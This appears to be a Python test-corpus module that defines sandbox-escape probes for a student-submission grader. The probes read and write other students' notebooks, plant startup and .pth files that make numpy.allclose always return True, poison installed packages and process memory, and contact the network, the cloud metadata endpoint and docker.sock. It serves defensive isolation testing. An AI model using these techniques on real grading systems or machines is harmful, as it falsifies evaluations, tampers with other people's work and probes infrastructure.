"""Group G: reaching other students' work, what comes after, and the network."""
# ruff: noqa: E501 - code in strings stands as it would be handed in

from __future__ import annotations

from attack_corpus.attack import attack

_REACH = """
import socket
def reach(name, act):
    try:
        print("REACH" + "ED", name, act())
    except Exception:
        pass
"""

ATTACKS = (
    attack(
        "read-others",
        "G",
        "131",
        "looks for other submissions above its folder",
        before="""
            import os
            for folder, folders, names in os.walk("../../.."):
                folders[:] = [name for name in folders if name not in ("proc", "sys", "usr", "lib", "site-packages")]
                for name in names:
                    if name == "ps.ipynb" or name == "reached.txt":
                        print("REACH" + "ED", folder, name)
        """,
    ),
    attack(
        "write-others",
        "G",
        "132",
        "writes into other submissions",
        before="""
            import os
            for student in ("honest", "../honest", "../../honest", "../../submitted/honest"):
                try:
                    with open(f"{student}/ps1/ps.ipynb", "a") as stream:
                        stream.write(" ")
                    print("REACH" + "ED", student)
                except OSError:
                    pass
        """,
    ),
    attack(
        "startup-files",
        "G",
        "133",
        "leaves files that IPython, Python and matplotlib read when they start",
        before="""
            import os
            code = "import numpy; numpy.allclose = lambda *a, **k: True"
            home = os.path.expanduser("~")
            for path in (".ipython/profile_default/startup/00.py", ".local/lib/python3/site-packages/x.pth",
                         ".pythonrc.py", ".config/matplotlib/matplotlibrc", ".config/pip/pip.conf"):
                try:
                    os.makedirs(os.path.dirname(os.path.join(home, path)), exist_ok=True)
                    open(os.path.join(home, path), "w").write(code)
                except OSError:
                    pass
        """,
    ),
    attack(
        "poison-libraries",
        "G",
        "134",
        "changes installed packages and their caches",
        before="""
            import os, sys
            for package in (np, torch, os):
                folder = os.path.dirname(package.__file__)
                for path in (package.__file__, f"{folder}/../poison.pth", f"{folder}/__pycache__/x.pyc", f"{folder}/poison.py"):
                    try:
                        with open(path, "a") as stream:
                            print("REACH" + "ED", path)
                    except OSError:
                        pass
        """,
    ),
    attack(
        "leave-a-note",
        "G",
        "135",
        "leaves notes in shared folders for the next student",
        before="""
            import os
            for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~"), "."):
                try:
                    open(os.path.join(folder, "note-for-a-friend"), "w").write("REACH" + "ED by a note")
                except OSError:
                    pass
        """,
    ),
    attack(
        "read-a-note",
        "G",
        "135",
        "looks for notes that an earlier student left",
        follows="leave-a-note",
        before="""
            import os
            for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~"), "."):
                try:
                    print(open(os.path.join(folder, "note-for-a-friend")).read())
                except OSError:
                    pass
        """,
    ),
    attack(
        "poison-the-process",
        "G",
        "136",
        "changes everything in memory that the next student might share",
        before="""
            import builtins, gc, random, sys
            np.allclose = torch.allclose = lambda *a, **k: True
            builtins.poisoned = True
            sys.modules["poisoned"] = sys
            random.seed(0)
            type(get_ipython()).poisoned = True
            for thing in gc.get_objects():
                if isinstance(thing, dict) and "np" in thing:
                    thing["poisoned"] = True
        """,
    ),
    attack(
        "look-for-poison",
        "G",
        "136",
        "looks for what an earlier student changed",
        follows="poison-the-process",
        before="""
            import builtins, sys
            if hasattr(builtins, "poisoned") or "poisoned" in sys.modules or hasattr(get_ipython(), "poisoned"):
                print("REACH" + "ED by poison")
        """,
    ),
    attack(
        "call-home",
        "G",
        "139",
        "asks the network for answers",
        before=_REACH
        + """
import urllib.request
reach("http", lambda: urllib.request.urlopen("http://192.0.2.1/", timeout=2).status)
reach("dns", lambda: socket.getaddrinfo("example.org", 80))
reach("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("192.0.2.1", 53)))
reach("metadata", lambda: socket.create_connection(("169.254.169.254", 80), timeout=1))
""",
    ),
    attack(
        "local-services",
        "G",
        "140",
        "connects to services of the machine",
        before=_REACH
        + """
reach("tcp", lambda: socket.create_connection(("127.0.0.1", @PORT@), timeout=1))
reach("ipv6", lambda: socket.create_connection(("::1", @PORT@), timeout=1))
def unix(name):
    client = socket.socket(socket.AF_UNIX)
    client.connect(name)
    return name
reach("abstract", lambda: unix("\\0@ABSTRACT@"))
reach("path", lambda: unix("@SOCKET@"))
reach("docker", lambda: unix("/var/run/docker.sock"))
""",
    ),
    attack(
        "other-families",
        "G",
        "141",
        "opens sockets of families that namespaces do not cover",
        before=_REACH
        + """
for family, kind, protocol in ((16, 3, 0), (16, 3, 9), (40, 1, 0), (17, 3, 3), (38, 5, 0), (2, 3, 1), (31, 3, 1)):
    reach(family, lambda: socket.socket(family, kind, protocol))
""",
    ),
)
